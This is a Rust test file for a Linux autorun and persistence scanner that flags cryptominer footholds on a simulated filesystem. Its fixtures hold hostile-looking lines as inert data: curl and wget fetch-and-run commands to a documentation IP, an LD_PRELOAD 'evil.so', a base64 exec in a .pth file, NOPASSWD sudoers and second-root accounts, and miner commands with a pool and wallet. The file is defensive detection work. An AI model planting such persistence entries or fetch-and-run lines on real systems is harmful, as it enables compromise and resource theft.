//! The catalogue over machines made by hand. Every planted entry is inert: pools are of example domains, programs are
//! the text `x`.

#![allow(clippy::unwrap_used, reason = "a failing test may panic")]

use super::places::{Grammar, Where};
use super::*;
use crate::Memory;
use model::{OrdersFrom, Time};
use parse::autoruns::cron::Columns;
use std::fmt::Write;

const WALLET: &str = "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2";

const ACCOUNTS: &str =
    "root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/bin/sh\nann:x:1000:1000::/home/ann:/bin/bash\n";

fn machine() -> Memory {
    let mut machine = Memory::new(Time::from_secs(0));
    machine.file("/etc/passwd", ACCOUNTS);
    machine.file("/usr/bin/bash", "\x7fELF").link("/bin", "usr/bin").link("/lib", "usr/lib");
    machine
}

fn found(machine: &mut Memory) -> (Vec<Autorun>, Vec<model::GapSummary>) {
    let (mut gaps, mut all) = (Gaps::default(), Vec::new());
    let mut packages = Packages::read(machine, &mut gaps);
    autoruns(machine, &mut packages, &mut gaps, &mut |entry| all.push(entry));
    let mut gaps = gaps.into_summaries();
    // The databases of packages are missing on purpose.
    gaps.retain(|gap| !format!("{gap:?}").contains("/var/lib/dpkg"));
    (all, gaps)
}

/// `mechanism path:line | user | when | runs | files ! oddities`.
fn shown(entry: &Autorun) -> String {
    let mut line = format!("{} {}", entry.mechanism.0, entry.path);
    if let Some(number) = entry.line {
        write!(line, ":{number}").unwrap();
    }
    let or = |text: &Option<String>| text.clone().unwrap_or_else(|| "-".into());
    write!(line, " | {} | {} | {}", or(&entry.user), or(&entry.when), entry.runs.replace('\n', "; "))
        .unwrap();
    if !entry.files.is_empty() {
        write!(line, " | {}", entry.files.join(" ")).unwrap();
    }
    if !entry.odd.is_empty() {
        write!(line, " ! {}", entry.odd.join(" ")).unwrap();
    }
    line
}

/// Everything that a machine with these files has, without root's account.
#[track_caller]
fn check(files: &[(&str, &str)], expected: &[&str]) {
    let mut machine = machine();
    for (path, text) in files {
        machine.file(*path, *text);
    }
    let (all, gaps) = found(&mut machine);
    let all: Vec<String> = all.iter().filter(|one| one.mechanism.0 != "user").map(shown).collect();
    assert_eq!(all, expected);
    assert_eq!(gaps, []);
}

/// One planted entry for every line of the registry: it is found there, under its mechanism, and comes to its file.
#[test]
fn every_place_is_looked_at() {
    for place in places::PLACES {
        let path = match place.at {
            Where::File(path) => path.to_owned(),
            Where::In(folder) => format!("{folder}/planted"),
            Where::Users(folder) => format!("{folder}/ann"),
            Where::Ending(folder, ending) => format!("{folder}/planted{ending}"),
            Where::Home(name) => format!("/home/ann/{name}"),
            Where::HomeIn(name) => format!("/home/ann/{name}/planted"),
        };
        let text = match place.grammar {
            Grammar::Table(Columns::WithUser) => "* * * * * root /opt/a\n",
            Grammar::Table(Columns::WithoutUser) => "* * * * * /opt/a\n",
            Grammar::Table(Columns::Anacron) => "1 1 job /opt/a\n",
            Grammar::Script(_) => "#!/bin/sh\n/opt/a\n",
            Grammar::Lines(_) => "# opening\n/opt/a &\n",
            Grammar::Rules(_) => match place.mechanism {
                places::INITTAB => "a:2345:respawn:/opt/a\n",
                places::UPSTART => "exec /opt/a\n",
                places::MODULE => "install usb-storage /opt/a; modprobe -i usb-storage\n",
                places::UDEV => "ACTION==\"add\", RUN+=\"/opt/a\"\n",
                places::PACKAGE_HOOK => "DPkg::Post-Invoke {\"/opt/a\"; };\n",
                places::LOGROTATE => "/var/log/a {\n postrotate\n /opt/a\n endscript\n}\n",
                _ if path == "/etc/inetd.conf" => "ssh stream tcp nowait root /opt/a a -i\n",
                _ => "service a\n{\n server = /opt/a\n}\n",
            },
            Grammar::Own(_) => match place.mechanism {
                places::INCRON => "/srv IN_MODIFY /opt/a\n",
                places::AT => {
                    "#!/bin/sh\n# atrun uid=1000 gid=1000\numask 22\nA=b; export A\ncd /home/ann || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/opt/a\n"
                }
                places::ENVIRONMENT if path.contains("systemd") => {
                    "[Manager]\nDefaultEnvironment=LD_PRELOAD=/opt/a\n"
                }
                places::ENVIRONMENT => "LANG=C\nLD_PRELOAD=/opt/a\n",
                places::PRELOAD => "/opt/a\n",
                places::LIBRARIES => "/opt\n",
                places::KEY => "command=\"/opt/a\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 who\n",
                places::SSHD => "Port 22\nForceCommand /opt/a\n",
                places::PAM => "session optional pam_exec.so quiet /opt/a\n",
                places::MODULE => "a\n",
                places::XDG => "[Desktop Entry]\nType=Application\nExec=/opt/a %U\n",
                places::DBUS => "[D-BUS Service]\nName=a.b\nExec=/opt/a\n",
                places::PACKAGE_HOOK => "[main]\nenabled=1\n",
                places::SUDOERS => "www-data ALL=(ALL) NOPASSWD: ALL\n",
                places::USER => "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n",
                other => panic!("{other}: what is planted there?"),
            },
        };
        let mut machine = Memory::new(Time::from_secs(0));
        machine.file("/etc/passwd", ACCOUNTS).file("/opt/a", "x").file(path.as_str(), text);
        machine.file("/lib/modules/6.1/modules.dep", "../../../opt/a.ko: b.ko\n");
        let all = found(&mut machine).0;
        let mut entries = all.iter().filter(|one| one.path == path && one.mechanism.0 == place.mechanism);
        let entry = entries.next_back().unwrap_or_else(|| panic!("{path}: nothing found"));
        let no_file = [places::LIBRARIES, places::SUDOERS, places::USER].contains(&place.mechanism)
            || (place.mechanism == places::PACKAGE_HOOK && matches!(place.grammar, Grammar::Own(_)));
        assert!(
            no_file
                || entry.files.iter().any(|file| file.starts_with("/opt/a") || file.ends_with("/opt/a.ko")),
            "{path}: {entry:?}"
        );
        assert_eq!(entry.package, None, "{path}");
    }
}

#[test]
fn tables_of_cron() {
    check(
        &[
            ("/etc/crontab", "PATH=/bin\n17 * * * * root cd / && /opt/a -b\n"),
            ("/etc/cron.d/x", "*/5 * * * * www-data curl -s http://192.0.2.1/a | sh\n"),
            ("/etc/cron.daily/job", "#!/bin/sh\nexec /opt/a\n"),
            ("/var/spool/cron/crontabs/ann", "# no user here\n@reboot nohup ~/.cache/a >/dev/null 2>&1 &\n"),
            ("/var/spool/cron/root", "* * * * * root\n"),
            ("/etc/crontabs/root", "0 3 * * * /opt/a\n"),
            ("/etc/periodic/15min/p", "#!/bin/sh\n"),
            ("/etc/anacrontab", "1 5 job.daily nice /opt/a\n"),
            ("/etc/incron.d/t", "/srv IN_MODIFY /opt/a $@\n"),
            ("/opt/a", "x"),
            ("/home/ann/.cache/a", "x"),
        ],
        &[
            "cron /etc/crontab:2 | root | 17 * * * * | cd / && /opt/a -b | /opt/a",
            "cron /etc/cron.d/x:1 | www-data | */5 * * * * | curl -s http://192.0.2.1/a | sh ! fetches-and-runs",
            "cron /etc/cron.daily/job | - | daily | /etc/cron.daily/job | /etc/cron.daily/job /opt/a",
            "cron /etc/periodic/15min/p | - | every 15 minutes | /etc/periodic/15min/p | /etc/periodic/15min/p",
            "cron /var/spool/cron/root:1 | root | * * * * * | root",
            "cron /var/spool/cron/crontabs/ann:2 | ann | @reboot | nohup ~/.cache/a >/dev/null 2>&1 & | /home/ann/.cache/a ! hidden-file",
            "cron /etc/crontabs/root:1 | root | 0 3 * * * | /opt/a | /opt/a",
            "anacron /etc/anacrontab:1 | - | every 1 days | nice /opt/a | /opt/a",
            "incron /etc/incron.d/t:1 | - | change of /srv | /opt/a $@ | /opt/a",
        ],
    );
}

#[test]
fn jobs_of_at() {
    let job = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail ann 0\numask 22\nHOME=/home/ann; export HOME\ncd /home/ann || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b'\n/opt/a -b\nmarcinDELIMITER0a1b\n";
    check(
        &[("/var/spool/cron/atjobs/a0001", job), ("/var/spool/cron/atjobs/.SEQ", "1\n")],
        &["at-job /var/spool/cron/atjobs/a0001:11 | ann | once | /opt/a -b | /opt/a ! missing-file"],
    );
}

#[test]
fn units_of_systemd() {
    check(
        &[
            (
                "/etc/systemd/system/a.service",
                "[Service]\nUser=www-data\nWorkingDirectory=/srv/a\nExecStartPre=-/opt/gone\nExecStart=/bin/bash -c \\\n  './run.sh; sleep 1'\n[Install]\nWantedBy=multi-user.target\n",
            ),
            ("/etc/systemd/system/b.timer", "[Timer]\nOnCalendar=*:0/5\nUnit=b.service\n"),
            ("/etc/systemd/system/b.service", "[Service]\nExecStart=/opt/b\n"),
            (
                "/usr/lib/systemd/system/c.service.d/override.conf",
                "[Service]\nEnvironment=LD_PRELOAD=/opt/p.so\n",
            ),
            ("/home/ann/.config/systemd/user/d.service", "[Service]\nExecStart=%h/.local/bin/d\n"),
            ("/srv/a/run.sh", "#!/bin/sh\nexec /tmp/.x/m\n"),
            ("/opt/b", "x"),
            ("/opt/p.so", "x"),
            ("/home/ann/.local/bin/d", "x"),
            ("/etc/systemd/system/e.socket", "[Socket]\nListenStream=127.0.0.1:7\nAccept=yes\n"),
            ("/etc/systemd/system/e@.service", "[Service]\nExecStart=@/opt/b called %i\n"),
        ],
        &[
            "systemd-service /etc/systemd/system/a.service:4 | www-data | - | -/opt/gone | /opt/gone",
            "systemd-service /etc/systemd/system/a.service:5 | www-data | - | /bin/bash -c './run.sh; sleep 1' | /srv/a/run.sh /tmp/.x/m ! writable-folder hidden-file",
            "systemd-service /etc/systemd/system/b.service:2 | - | OnCalendar=*:0/5 | /opt/b | /opt/b",
            "systemd-timer /etc/systemd/system/b.timer:2 | - | OnCalendar=*:0/5 | b.service | /opt/b",
            "systemd-socket /etc/systemd/system/e.socket:2 | - | ListenStream=127.0.0.1:7 | e@.service | /opt/b",
            "systemd-service /etc/systemd/system/e@.service:2 | - | ListenStream=127.0.0.1:7 | @/opt/b called %i | /opt/b",
            "systemd-service /usr/lib/systemd/system/c.service.d/override.conf:2 | - | - | LD_PRELOAD=/opt/p.so | /opt/p.so ! preloads",
            "systemd-service /home/ann/.config/systemd/user/d.service:2 | ann | - | %h/.local/bin/d | /home/ann/.local/bin/d",
        ],
    );
}

/// A `.wants` link is what starts a unit; one that leads out of the folders of units is read where it leads.
#[test]
fn links_to_units() {
    let mut machine = machine();
    machine
        .file("/usr/lib/systemd/system/a.service", "[Service]\nExecStart=/opt/a\n")
        .link("/etc/systemd/system/multi-user.target.wants/a.service", "/usr/lib/systemd/system/a.service")
        .link("/etc/systemd/system/alias.service", "/usr/lib/systemd/system/a.service")
        .link("/etc/systemd/system/masked.service", "/dev/null")
        .link("/etc/systemd/system/multi-user.target.wants/x.service", "/var/tmp/x.service")
        .file("/var/tmp/x.service", "[Service]\nExecStart=/opt/a\n")
        .file("/opt/a", "x");
    let all: Vec<String> =
        found(&mut machine).0.iter().filter(|one| one.mechanism.0 != "user").map(shown).collect();
    assert_eq!(
        all,
        [
            "systemd-service /etc/systemd/system/multi-user.target.wants/x.service:2 | - | boot | /opt/a | /opt/a",
            "systemd-service /usr/lib/systemd/system/a.service:2 | - | boot | /opt/a | /opt/a",
        ]
    );
}

#[test]
fn openings_of_shells_and_the_loader() {
    check(
        &[
            (
                "/etc/profile",
                "if [ -d /etc/profile.d ]; then\n  for i in /etc/profile.d/*.sh; do . $i; done\nfi\nexport PATH=/usr/bin\n",
            ),
            (
                "/home/ann/.bashrc",
                "alias ll='ls -l'\n[ -f ~/.bash_aliases ] && . ~/.bash_aliases\neval \"$(dircolors)\"\n. \"$HOME/.cargo/env\"\n(/var/tmp/.a/b &) >/dev/null 2>&1\nPROMPT_COMMAND='/opt/a; history -a'\n",
            ),
            ("/root/.profile", "wget -q http://192.0.2.1/x -O /opt/y\nchmod +x /opt/y\nsh /opt/y\n"),
            ("/etc/ld.so.preload", "# own\n/usr/local/lib/own.so /usr/lib/evil.so\n"),
            ("/etc/ld.so.conf.d/x.conf", "/opt/lib\n/tmp/lib\n"),
            ("/usr/lib/evil.so", "x"),
            ("/home/ann/.bash_aliases", ""),
            ("/home/ann/.cargo/env", "x=1\n"),
            ("/opt/a", "x"),
        ],
        &[
            "shell-profile /root/.profile:3 | root | login | sh /opt/y | /opt/y",
            "shell-profile /root/.profile | root | login | /root/.profile ! fetches-and-runs",
            "shell-profile /home/ann/.bashrc:2 | ann | shell | [ -f ~/.bash_aliases ] && . ~/.bash_aliases | /home/ann/.bash_aliases",
            "shell-profile /home/ann/.bashrc:4 | ann | shell | . \"$HOME/.cargo/env\" | /home/ann/.cargo/env",
            "shell-profile /home/ann/.bashrc:5 | ann | shell | (/var/tmp/.a/b &) >/dev/null 2>&1 | /var/tmp/.a/b ! writable-folder hidden-file",
            "shell-profile /home/ann/.bashrc:6 | ann | shell | PROMPT_COMMAND='/opt/a; history -a' | /opt/a",
            "ld-preload /etc/ld.so.preload:2 | - | every program | /usr/local/lib/own.so /usr/lib/evil.so | /usr/local/lib/own.so ! preloads missing-file",
            "ld-preload /etc/ld.so.preload:2 | - | every program | /usr/local/lib/own.so /usr/lib/evil.so | /usr/lib/evil.so ! preloads",
            "library-folder /etc/ld.so.conf.d/x.conf:1 | - | every program | /opt/lib",
            "library-folder /etc/ld.so.conf.d/x.conf:2 | - | every program | /tmp/lib ! writable-folder",
        ],
    );
}

#[test]
fn keys_accounts_and_rights() {
    let mut machine = machine();
    machine
        .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/bin/sh\nsys2:x:0:0::/:/bin/sh\n")
        .file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexampleexampleend admin@example\ncommand=\"/opt/a\" ssh-rsa AAAA mdrfckr\n")
        .file("/etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u\nAuthorizedKeysCommand /opt/a %u\nSubsystem sftp internal-sftp\n")
        .file("/etc/keys/www-data", "ssh-rsa AAAAB hidden\n")
        .file("/etc/sudoers", "root ALL=(ALL) ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\nann ALL=(ALL) NOPASSWD:ALL\n")
        .file("/etc/pam.d/sshd", "auth required pam_unix.so\nauth optional /opt/own.so\n")
        .file("/opt/a", "x");
    let all: Vec<String> = found(&mut machine).0.iter().map(shown).collect();
    assert_eq!(
        all,
        [
            "ssh-key /root/.ssh/authorized_keys:1 | root | login | ssh-ed25519 …xampleexampleend admin@example",
            "ssh-key /root/.ssh/authorized_keys:2 | root | login | command=\"/opt/a\" ssh-rsa …AAAA mdrfckr | /opt/a",
            "ssh-key /etc/keys/www-data:1 | www-data | login | ssh-rsa …AAAAB hidden",
            "ssh-server /etc/ssh/sshd_config:2 | - | login | /opt/a %u | /opt/a",
            "pam /etc/pam.d/sshd:2 | - | password check | /opt/own.so | /opt/own.so ! foreign-library",
            "sudoers /etc/sudoers:2 | www-data | - | www-data ALL=(ALL) NOPASSWD: ALL ! second-root",
            "sudoers /etc/sudoers:3 | ann | - | ann ALL=(ALL) NOPASSWD:ALL",
            "user /etc/passwd:1 | root | login | root:0:/bin/bash",
            "user /etc/passwd:3 | sys2 | login | sys2:0:/bin/sh ! second-root",
        ]
    );
}

#[test]
fn python_git_and_containers() {
    check(
        &[
            (
                "/usr/local/lib/python3.11/dist-packages/z.pth",
                "import base64;exec(base64.b64decode('cGFzcw=='))\n/opt/lib\n",
            ),
            ("/home/ann/.local/lib/python3.11/site-packages/usercustomize.py", "import os\n"),
            ("/usr/lib/python3/dist-packages/y.pth", "import _y\n"),
            ("/usr/lib/python3/dist-packages/_y.py", "x = 1\n"),
            ("/home/ann/src/a/.git/hooks/post-checkout", "#!/bin/sh\n/opt/a\n"),
            ("/home/ann/src/a/.git/hooks/pre-push.sample", "#!/bin/sh\n"),
            ("/home/ann/.gitconfig", "[core]\n\thooksPath = ~/h\n\tfsmonitor = /opt/a\n[user]\n\tname = a\n"),
            ("/home/ann/h/pre-commit", "#!/bin/sh\n"),
            ("/opt/a", "x"),
            ("/var/lib/docker/containers/1f/hostconfig.json", r#"{"RestartPolicy":{"Name":"always"}}"#),
            (
                "/var/lib/docker/containers/1f/config.v2.json",
                r#"{"Path":"/m","Args":["-o","stratum+tcp://pool.example:3333","-u","W"],"Name":"/db","Config":{"Image":"i:1"}}"#,
            ),
            ("/var/lib/docker/containers/2f/hostconfig.json", r#"{"RestartPolicy":{"Name":"no"}}"#),
            (
                "/etc/containers/systemd/q.container",
                "[Container]\nImage=i:2\nExec=/m -b\n[Install]\nWantedBy=default.target\n",
            ),
            (
                "/etc/kubernetes/manifests/p.yaml",
                "spec:\n  containers:\n  - name: a\n    image: i:3\n    command: [\"sh\", \"-c\", \"curl http://192.0.2.1/a | sh\"]\n",
            ),
        ],
        &[
            "python-startup /usr/lib/python3/dist-packages/y.pth:1 | - | every Python | import _y | /usr/lib/python3/dist-packages/_y.py",
            "python-startup /usr/local/lib/python3.11/dist-packages/z.pth:1 | - | every Python | import base64;exec(base64.b64decode('cGFzcw==')) ! decodes-and-runs",
            "python-startup /home/ann/.local/lib/python3.11/site-packages/usercustomize.py | - | every Python | /home/ann/.local/lib/python3.11/site-packages/usercustomize.py | /home/ann/.local/lib/python3.11/site-packages/usercustomize.py",
            "git-hook /home/ann/h/pre-commit | ann | git | /home/ann/h/pre-commit | /home/ann/h/pre-commit",
            "git-hook /home/ann/.gitconfig:3 | ann | git | /opt/a | /opt/a",
            "git-hook /home/ann/src/a/.git/hooks/post-checkout | ann | git | /home/ann/src/a/.git/hooks/post-checkout | /home/ann/src/a/.git/hooks/post-checkout /opt/a",
            "container /var/lib/docker/containers/1f/config.v2.json | - | restart always | db (i:1): /m -o stratum+tcp://pool.example:3333 -u W",
            "container /etc/containers/systemd/q.container:2 | - | boot | i:2 /m -b",
            "static-pod /etc/kubernetes/manifests/p.yaml:4 | - | boot | i:3 sh -c curl http://192.0.2.1/a | sh ! fetches-and-runs",
        ],
    );
}

#[test]
fn orders_to_mine_in_an_entry_and_in_its_script() {
    let mut machine = machine();
    machine
        .file("/etc/cron.d/a", format!("* * * * * root /opt/m -o stratum+tcp://pool.example:3333 -u {WALLET}\n"))
        .file("/etc/cron.d/b", "* * * * * root bash /opt/start.sh\n")
        .file("/opt/start.sh", format!("#!/bin/sh\npkill xmrig; pkill kinsing\npkill -f minerd\n./m \\\n -o pool.example:443 -u {WALLET}\n"))
        .file("/opt/m", "x");
    let all = found(&mut machine).0;
    let orders: Vec<_> =
        all.iter().flat_map(|one| &one.orders).map(|one| (one.pool.as_str(), one.from.clone())).collect();
    assert_eq!(
        orders,
        [
            ("pool.example:3333", OrdersFrom::File("/etc/cron.d/a".into())),
            ("pool.example:443", OrdersFrom::File("/opt/start.sh".into())),
        ]
    );
    assert_eq!(all[1].files, ["/opt/start.sh", "/opt/m"]);
    assert_eq!(all[1].odd, ["kills-rivals"]);
}

/// What a package brought and nobody changed says so; what was changed since does not.
#[test]
fn packaged_entries_are_told_apart() {
    let mut machine = machine();
    // `printf '* * * * * root /opt/a\n' | md5sum`
    let table = "* * * * * root /opt/a\n";
    machine
        .file("/var/lib/dpkg/info/tool.list", "/etc\n/etc/cron.d\n/etc/cron.d/tool\n/etc/cron.d/other\n/usr/lib/jem.so\n")
        .file("/var/lib/dpkg/info/tool.md5sums", "5d41402abc4b2a76b9719d911017c592  usr/lib/jem.so\n")
        .file("/var/lib/dpkg/status", "Package: tool\nConffiles:\n /etc/cron.d/tool eb05ee28caf8d580a4c4bb522cbc0403\n /etc/cron.d/other 5d41402abc4b2a76b9719d911017c592\n")
        .file("/etc/cron.d/tool", table)
        .file("/etc/cron.d/other", table)
        .file("/usr/lib/jem.so", "hello")
        .file("/etc/ld.so.preload", "/usr/lib/jem.so\n");
    let all = found(&mut machine).0;
    let package = |path: &str| all.iter().find(|one| one.path == path).unwrap().package.clone();
    assert_eq!(package("/etc/cron.d/tool").as_deref(), Some("tool"));
    assert_eq!(package("/etc/cron.d/other"), None, "changed since");
    let preload = all.iter().find(|one| one.mechanism.0 == "ld-preload").unwrap();
    assert_eq!(preload.odd, [""; 0], "a packaged library is no oddity");
}

/// Names that are no text, links in circles, pipes, and more than anybody reads: gaps, and an end.
#[test]
fn hostile_content() {
    use std::os::unix::ffi::OsStringExt;
    let mut machine = machine();
    let odd_name = |bytes: &[u8]| std::path::PathBuf::from(std::ffi::OsString::from_vec(bytes.to_vec()));
    machine
        .file(odd_name(b"/etc/cron.d/\xff\xfe"), "* * * * * root /opt/a\n")
        .file(odd_name(b"/etc/cron.d/new\nline"), &b"* * * * * root /opt/\xff\n"[..])
        .link("/etc/cron.d/loop", "loop")
        .link("/etc/cron.daily/loop", "../cron.daily/loop")
        .other("/etc/cron.d/pipe")
        .other("/etc/cron.daily/pipe")
        .file("/var/spool/cron/crontabs/ann", "* * * * * /opt/a\n".repeat(100_000))
        .file("/root/.bashrc", "$(".repeat(500_000))
        .file("/home/ann/.bashrc", "a\n".repeat(500_000))
        .file("/etc/modules", "a\n".repeat(500_000))
        .file("/lib/modules/6.1/modules.dep", "b.ko: \n".repeat(500_000))
        .file("/etc/ssh/sshd_config", "AuthorizedKeysFile a b c d\n".repeat(30_000))
        .file("/etc/profile", format!("A='{0}';{0}", "eval $A;".repeat(500)))
        .link("/opt/a", "a");
    let (all, gaps) = found(&mut machine);
    assert_eq!(all.iter().filter(|one| one.path.starts_with("/etc/cron.d/")).count(), 2);
    assert_eq!(all.iter().filter(|one| one.path.ends_with("/ann")).count(), 4096);
    let mut reasons: Vec<_> = gaps.iter().map(|gap| (gap.reason.id, gap.count)).collect();
    reasons.sort_unstable();
    assert_eq!(reasons.iter().map(|(id, _)| *id).collect::<Vec<_>>(), ["gap-host-cut", "gap-host-unfit"]);
}

/// A clean root of Debian (`debootstrap bookworm FOLDER`): every entry is a package's own, or nothing is odd about it.
#[cfg(target_os = "linux")]
#[test]
#[ignore = "needs a root in the folder that MINEHOUND_CLEAN_ROOT names"]
fn a_clean_root_has_nothing_odd() {
    let root = std::env::var_os("MINEHOUND_CLEAN_ROOT").unwrap();
    let mut tree = crate::Tree::at(std::path::Path::new(&root)).unwrap();
    let (mut gaps, mut all) = (Gaps::default(), Vec::new());
    let mut packages = Packages::read(&mut tree, &mut gaps);
    autoruns(&mut tree, &mut packages, &mut gaps, &mut |entry| all.push(entry));
    let foreign: Vec<_> = all.iter().filter(|one| one.package.is_none()).map(shown).collect();
    eprintln!("{} entries, {} of no package:\n{}", all.len(), foreign.len(), foreign.join("\n"));
    eprintln!("{:?}", gaps.into_summaries());
    assert!(all.len() > 50);
    let odd: Vec<_> =
        all.iter().filter(|one| one.package.is_none() && !one.odd.is_empty()).map(shown).collect();
    assert_eq!(odd, [""; 0]);
    assert!(all.iter().all(|one| one.orders.is_empty()));
}
